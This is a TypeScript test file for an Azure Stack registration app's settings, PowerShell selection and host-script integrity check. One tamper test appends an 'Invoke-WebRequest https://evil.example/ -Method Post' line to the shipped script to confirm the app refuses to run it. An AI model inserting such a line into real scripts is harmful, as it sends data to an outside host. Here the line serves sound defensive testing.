import { randomUUID } from 'node:crypto';
import { existsSync, readFileSync, realpathSync } from 'node:fs';
import { chmod, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEFAULT_PRACTICE_SCENARIO } from '../../../shared/contract';
import type { PepConnected, Settings } from '../../../shared/contract';
import type { HandoffPage, HandoffSummary, SubscriptionInfo, TokenPreview } from '../../../shared/domain/types';
import { suggestRegistrationName } from '../../../shared/domain';
import { scriptDigest } from '../../../electron/integrity';
import { memoryLogger } from '../../../electron/log';
import { createRuntime } from '../../../electron/runtime';
import { FAST_PRACTICE, startPracticeMachine } from '../../fixtures/app/practice-app';
import { PRACTICE_PEP_PASSWORD } from '../../../electron/practice/stamp';

// Operator settings through the runtime: kept in settings.json, validated, applied by recomposing.
const RESOURCES = join(import.meta.dirname, '..', '..', '..', 'resources');

type Extra = { pepHostSha256?: string; log?: ReturnType<typeof memoryLogger>; resourcesDir?: string; pick?: () => Promise<string | null> };
const runtimeAt = async (dataDir: string, extra: Extra = {}) =>
  createRuntime({
    dataDir,
    resourcesDir: extra.resourcesDir ?? RESOURCES,
    appVersion: '0.0.0-test',
    platform: 'linux',
    systemRoot: 'C:\\Windows',
    tempDir: tmpdir(),
    env: { HOME: tmpdir() },
    events: () => undefined,
    log: extra.log ?? memoryLogger(),
    pickFolder: async () => null,
    pickExecutable: extra.pick ?? (async () => null),
    newId: randomUUID,
    practice: FAST_PRACTICE,
    ...(extra.pepHostSha256 ? { pepHostSha256: extra.pepHostSha256 } : {}),
  });

describe('settings', () => {
  it('starts from the platform defaults, keeps the pwsh chosen in the dialog next to the mode, and reads it back', async () => {
    const dataDir = await mkdtemp(join(tmpdir(), 'azs-settings-'));
    const picked = await recordingPwsh(await mkdtemp(join(tmpdir(), 'azs-pwsh-')));
    const fakePwsh = realpathSync(picked);
    const first = await runtimeAt(dataDir, { pick: async () => picked });
    expect(await first.dispatch('settings.get', {})).toEqual({
      ok: true,
      value: { powershell: { kind: 'pwsh', path: '/usr/bin/pwsh' }, registrationApiVersion: '2017-06-01' },
    });
    await first.dispatch('app.setMode', { mode: 'live' });
    const chosen = { powershell: { kind: 'pwsh', path: fakePwsh }, registrationApiVersion: '2017-06-01' };
    // What the app will run: the path main chose and the version it reported through the same spawn path.
    expect(await first.dispatch('settings.choosePowerShell', {})).toEqual({ ok: true, value: { settings: chosen, powershell: { path: fakePwsh, version: '7.4.6', edition: 'Core' } } });
    expect(await first.dispatch('settings.powershell', {})).toEqual({ ok: true, value: { path: fakePwsh, version: '7.4.6', edition: 'Core' } });
    const saved: Settings = { ...chosen, registrationApiVersion: '2022-06-01' } as Settings;
    expect(await first.dispatch('settings.set', { powershell: { kind: 'pwsh' }, registrationApiVersion: '2022-06-01' })).toEqual({ ok: true, value: saved });
    await first.dispose();
    expect(JSON.parse(await readFile(join(dataDir, 'settings.json'), 'utf8'))).toEqual({ mode: 'live', ...saved, practice: DEFAULT_PRACTICE_SCENARIO });

    const second = await runtimeAt(dataDir);
    expect(second.info().mode).toBe('live');
    expect(await second.dispatch('settings.get', {})).toEqual({ ok: true, value: saved });
    await second.dispose();
  });

  it('ignores a damaged or unknown settings file part by part, a network pwsh path included', async () => {
    const dataDir = await mkdtemp(join(tmpdir(), 'azs-settings-'));
    await writeFile(join(dataDir, 'settings.json'), JSON.stringify({ mode: 'live', powershell: { kind: 'pwsh', path: 'pwsh' }, registrationApiVersion: '1999-01-01', extra: 1 }));
    const rt = await runtimeAt(dataDir);
    expect(rt.info().mode).toBe('live');
    expect(await rt.dispatch('settings.get', {})).toMatchObject({ value: { powershell: { path: '/usr/bin/pwsh' }, registrationApiVersion: '2017-06-01' } });
    await rt.dispose();

    await writeFile(join(dataDir, 'settings.json'), JSON.stringify({ mode: 'live', powershell: { kind: 'pwsh', path: '//fileserver/tools/pwsh' } }));
    const unc = await runtimeAt(dataDir);
    expect(await unc.dispatch('settings.get', {})).toMatchObject({ value: { powershell: { path: '/usr/bin/pwsh' } } });
    await unc.dispose();

    await writeFile(join(dataDir, 'settings.json'), '{ not json');
    const again = await runtimeAt(dataDir);
    expect(again.info().mode).toBe('practice');
    await again.dispose();
  });

  it('takes no path from the renderer, and refuses Windows PowerShell off Windows and an unknown api-version, changing nothing', async () => {
    const dataDir = await mkdtemp(join(tmpdir(), 'azs-settings-'));
    const rt = await runtimeAt(dataDir);
    const withPath = await rt.dispatch('settings.set', { powershell: { kind: 'pwsh', path: '/tmp/evil/pwsh' }, registrationApiVersion: '2017-06-01' });
    expect(withPath).toMatchObject({ ok: false, problem: { code: 'bad-request', message: expect.stringContaining('settings.set') } });
    const windowsPs = await rt.dispatch('settings.set', { powershell: { kind: 'windows-powershell' }, registrationApiVersion: '2017-06-01' });
    expect(windowsPs).toMatchObject({ ok: false, problem: { code: 'bad-request', message: expect.stringContaining('only on Windows'), action: expect.stringContaining('pwsh') } });
    expect(await rt.dispatch('settings.set', { powershell: { kind: 'pwsh' }, registrationApiVersion: '2020-06-01-preview' })).toMatchObject({ ok: false, problem: { code: 'bad-request' } });
    expect(await rt.dispatch('settings.get', {})).toMatchObject({ value: { powershell: { path: '/usr/bin/pwsh' }, registrationApiVersion: '2017-06-01' } });
    await expect(readFile(join(dataDir, 'settings.json'), 'utf8')).rejects.toThrow();
    await rt.dispose();
  });

  it('refuses a pwsh chosen on the network, one that is not PowerShell or not PowerShell 7, and keeps the current one when the dialog is cancelled', async () => {
    const dataDir = await mkdtemp(join(tmpdir(), 'azs-settings-'));
    const notPowerShell = join(await mkdtemp(join(tmpdir(), 'azs-pwsh-')), 'pwsh');
    await writeFile(notPowerShell, '#!/bin/sh\necho hello\n');
    await chmod(notPowerShell, 0o755);
    const windowsPowerShell = join(await mkdtemp(join(tmpdir(), 'azs-pwsh-')), 'powershell');
    await writeFile(windowsPowerShell, "#!/bin/sh\nprintf '5.1.19041.5247\\nDesktop\\n'\n");
    await chmod(windowsPowerShell, 0o755);
    const picks: (string | null)[] = ['\\\\fileserver\\tools\\pwsh.exe', '//fileserver/tools/pwsh', notPowerShell, windowsPowerShell, '/nonexistent/pwsh', null];
    const rt = await runtimeAt(dataDir, { pick: async () => picks.shift() ?? null });
    expect(await rt.dispatch('settings.choosePowerShell', {})).toMatchObject({ ok: false, problem: { code: 'bad-request', message: expect.stringContaining('is on the network') } });
    expect(await rt.dispatch('settings.choosePowerShell', {})).toMatchObject({ ok: false, problem: { code: 'bad-request', message: expect.stringContaining('is on the network') } });
    expect(await rt.dispatch('settings.choosePowerShell', {})).toMatchObject({ ok: false, problem: { message: expect.stringContaining('did not answer as PowerShell') } });
    expect(await rt.dispatch('settings.choosePowerShell', {})).toMatchObject({ ok: false, problem: { message: expect.stringContaining('This is PowerShell 5.1.19041.5247 (Desktop), not PowerShell 7.') } });
    expect(await rt.dispatch('settings.choosePowerShell', {})).toMatchObject({ ok: false, problem: { message: expect.stringContaining('cannot be found') } });
    expect(await rt.dispatch('settings.choosePowerShell', {})).toEqual({ ok: true, value: null });
    expect(await rt.dispatch('settings.get', {})).toMatchObject({ value: { powershell: { path: '/usr/bin/pwsh' } } });
    await expect(readFile(join(dataDir, 'settings.json'), 'utf8')).rejects.toThrow();
    await rt.dispose();
  });

  it('recomposes on a change: the PEP session and the Azure sign-in are gone, the hand-off journal stays', async () => {
    const machine = await startPracticeMachine(await mkdtemp(join(tmpdir(), 'azs-usb-')));
    const c = await machine.call<PepConnected>('pep.connect', { hosts: ['10.20.30.224'], user: 'AZURESTACK\\CloudAdmin', password: PRACTICE_PEP_PASSWORD });
    const created = await machine.run<{ handoff: HandoffSummary }>({ kind: 'stamp.createToken', sessionId: c.sessionId, choices: { billingModel: 'Development', targetCloud: 'AzureCloud' } });
    await machine.call('azure.signIn', { cloud: 'AzureCloud', method: 'browser' });
    // Same settings: nothing is torn down.
    await machine.call('settings.set', { powershell: { kind: 'windows-powershell' }, registrationApiVersion: '2017-06-01' });
    expect(await machine.runtime.dispatch('azure.subscriptions', { flow: 'disconnected' })).toMatchObject({ ok: true });

    await machine.call('settings.set', { powershell: { kind: 'windows-powershell' }, registrationApiVersion: '2022-06-01' });
    const closed = await machine.runtime.dispatch('pep.disconnect', { sessionId: c.sessionId });
    expect(closed).toMatchObject({ ok: false, problem: { code: 'session-missing' } });
    expect(await machine.runtime.dispatch('azure.subscriptions', { flow: 'disconnected' })).toMatchObject({ ok: false, problem: { code: 'azure-not-signed-in' } });
    expect(((await machine.call<HandoffPage>('handoff.list', {})).handoffs).map((h) => h.id)).toContain(created.handoff.id);
    await machine.runtime.dispose();
  });

  it('refuses to change settings while an operation runs', async () => {
    const slow = await startPracticeMachine(await mkdtemp(join(tmpdir(), 'azs-usb-')), { ...FAST_PRACTICE, stamp: { durations: { ...FAST_PRACTICE.stamp?.durations, tokenMs: 1_000 } } });
    const c = await slow.call<PepConnected>('pep.connect', { hosts: ['10.20.30.224'], user: 'AZURESTACK\\CloudAdmin', password: PRACTICE_PEP_PASSWORD });
    const started = await slow.call<{ operationId: string }>('operation.start', {
      kind: 'stamp.createToken', sessionId: c.sessionId, choices: { billingModel: 'Development', targetCloud: 'AzureCloud' },
    });
    const res = await slow.runtime.dispatch('settings.set', { powershell: { kind: 'windows-powershell' }, registrationApiVersion: '2022-06-01' });
    expect(res).toMatchObject({ ok: false, problem: { code: 'bad-request', action: expect.stringContaining('changing settings') } });
    expect(await slow.runtime.dispatch('settings.get', {})).toMatchObject({ value: { registrationApiVersion: '2017-06-01' } });
    expect((await slow.finished(started.operationId)).status).toBe('succeeded');
    await slow.runtime.dispose();
  });

  it('registers with the chosen Microsoft.AzureStack api-version (seen by the practice Azure)', async () => {
    const usb = await mkdtemp(join(tmpdir(), 'azs-usb-'));
    const stamp = await startPracticeMachine(usb);
    const host = await startPracticeMachine(usb);
    const c = await stamp.call<PepConnected>('pep.connect', { hosts: ['10.20.30.224'], user: 'AZURESTACK\\CloudAdmin', password: PRACTICE_PEP_PASSWORD });
    const created = await stamp.run<{ handoff: HandoffSummary; token: TokenPreview }>({
      kind: 'stamp.createToken', sessionId: c.sessionId, choices: { billingModel: 'Development', targetCloud: 'AzureCloud' },
    });
    const drive = await stamp.call<{ id: string }>('handoff.addFolder', {});
    const saved = await stamp.call<{ fileName: string }>('handoff.saveToken', { handoffId: created.handoff.id, driveId: drive.id });

    await host.call('settings.set', { powershell: { kind: 'windows-powershell' }, registrationApiVersion: '2022-06-01' });
    await host.call('azure.signIn', { cloud: 'AzureCloud', method: 'browser' });
    const subs = await host.call<SubscriptionInfo[]>('azure.subscriptions', { flow: 'disconnected' });
    const read = await host.call<{ handoff: HandoffSummary }>('handoff.readTokenText', { text: await readFile(join(usb, saved.fileName), 'utf8') });
    host.log.lines.length = 0;
    await host.run({
      kind: 'azure.register',
      handoffId: read.handoff.id,
      subscriptionId: subs.find((s) => s.state === 'Enabled')?.id,
      resourceGroup: 'azurestack',
      location: 'westcentralus',
      registrationName: suggestRegistrationName(c.stamp.cloudId),
    });
    const azureStackCalls = host.log.lines
      .filter((l) => l.message === 'Practice Azure answered' && /\/providers\/Microsoft\.AzureStack\/registrations\/[^/]+(?:\/getactivationkey)?$/i.test(String(l.data?.['path'])))
      .map((l) => `${String(l.data?.['method'])} ${String(l.data?.['apiVersion'])}`);
    expect(azureStackCalls).toEqual(expect.arrayContaining(['GET 2022-06-01', 'PUT 2022-06-01', 'POST 2022-06-01']));
    expect(azureStackCalls.every((call) => call.endsWith(' 2022-06-01'))).toBe(true);
    await stamp.runtime.dispose();
    await host.runtime.dispose();
  });

  it('starts the configured pwsh in live mode on a private, verified copy of the host script, removed after', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'azs-pwsh-'));
    const fakePwsh = await recordingPwsh(dir);
    const rt = await runtimeAt(await mkdtemp(join(tmpdir(), 'azs-settings-')), {
      pepHostSha256: scriptDigest(readFileSync(join(RESOURCES, 'pep-host.ps1'))),
      pick: async () => fakePwsh,
    });
    await rt.dispatch('app.setMode', { mode: 'live' });
    await rt.dispatch('settings.choosePowerShell', {});
    const report = await rt.dispatch('pep.preflight', { hosts: ['127.0.0.1'] });
    expect(report).toMatchObject({ ok: true, value: { ok: false } });
    const argv = (await readFile(join(dir, 'argv.txt'), 'utf8')).trim().split('\n');
    expect(argv[0]).toBe(realpathSync(fakePwsh));
    expect(argv.slice(1, -1)).toEqual(['-NoLogo', '-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass', '-File']);
    const copy = argv.at(-1) ?? '';
    expect(copy).not.toBe(join(RESOURCES, 'pep-host.ps1'));
    expect(copy).toMatch(new RegExp(`^${tmpdir().replace(/[\\^$.*+?()[\]{}|/]/g, '\\$&')}/azs-pep-[^/]+/pep-host\\.ps1$`));
    // PowerShell ran exactly the shipped bytes, and the private folder is gone once it exited.
    expect(await readFile(join(dir, 'ran.ps1'))).toEqual(readFileSync(join(RESOURCES, 'pep-host.ps1')));
    expect(existsSync(dirname(copy))).toBe(false);
    await rt.dispose();
  });

  it('never starts PowerShell on a host script changed after installation (live composition)', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'azs-pwsh-'));
    const fakePwsh = await recordingPwsh(dir);
    const resources = await mkdtemp(join(tmpdir(), 'azs-resources-'));
    const shipped = readFileSync(join(RESOURCES, 'pep-host.ps1'));
    await writeFile(join(resources, 'pep-host.ps1'), Buffer.concat([shipped, Buffer.from('\nInvoke-WebRequest https://evil.example/ -Method Post\n')]));
    const rt = await runtimeAt(await mkdtemp(join(tmpdir(), 'azs-settings-')), { pepHostSha256: scriptDigest(shipped), resourcesDir: resources, pick: async () => fakePwsh });
    await rt.dispatch('app.setMode', { mode: 'live' });
    expect(await rt.dispatch('settings.choosePowerShell', {})).toMatchObject({ ok: true });
    const report = await rt.dispatch('pep.preflight', { hosts: ['127.0.0.1'] });
    expect(report).toMatchObject({ ok: true, value: { ok: false, checks: expect.arrayContaining([expect.objectContaining({ id: 'powershell', ok: false, problem: expect.objectContaining({ code: 'pep-failed', message: expect.stringContaining('changed or damaged') }) })]) } });
    const connect = await rt.dispatch('pep.connect', { hosts: ['127.0.0.1'], user: 'AZURESTACK\\CloudAdmin', password: 'x' });
    expect(connect).toMatchObject({ ok: false, problem: { code: 'pep-failed', message: expect.stringContaining('changed or damaged') } });
    expect(existsSync(join(dir, 'argv.txt'))).toBe(false);
    await rt.dispose();
  });
});

/**
 * Stands in for pwsh: answers the version probe (-Command) as PowerShell 7.4.6; started as the host, records
 * how it was started and the script it was given, then exits without a greeting.
 */
const recordingPwsh = async (dir: string): Promise<string> => {
  const fakePwsh = join(dir, 'pwsh');
  const probe = `if [ "$4" = "-Command" ]; then printf '7.4.6\\nCore\\n'; exit 0; fi\n`;
  await writeFile(fakePwsh, `#!/bin/sh\n${probe}printf '%s\\n' "$0" "$@" > '${join(dir, 'argv.txt')}'\ncp "$7" '${join(dir, 'ran.ps1')}'\n`);
  await chmod(fakePwsh, 0o755);
  return fakePwsh;
};
